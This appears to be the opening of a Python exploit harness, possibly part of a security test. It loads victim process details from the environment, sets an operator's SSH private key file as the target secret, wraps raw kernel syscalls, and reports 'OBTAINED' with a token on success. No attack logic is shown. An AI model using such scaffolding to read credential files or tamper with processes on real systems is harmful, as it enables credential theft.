import array, base64, ctypes, errno, fcntl, mmap, os, re, signal, socket, struct, subprocess, sys, time
env = os.environ
TOKEN, WORK, OP_HOME, STATE = env['TOKEN'], env['WORK'], env['OP_HOME'], env['STATE']
VICTIM = int(env.get('VICTIM', 0))
VICTIM_ADDRESS = int(env.get('VICTIM_ADDRESS', '0'), 16)
VICTIM_FD = int(env.get('VICTIM_FD', 0))
SECRET = OP_HOME + '/.ssh/id_ed25519'
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *arguments):
    """Calls the kernel by number (x86-64); an error is an OSError."""
    result = libc.syscall(ctypes.c_long(number), *[a if not isinstance(a, int) else ctypes.c_long(a) for a in arguments])
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def obtained():
    print('OBTAINED', TOKEN, flush=True)
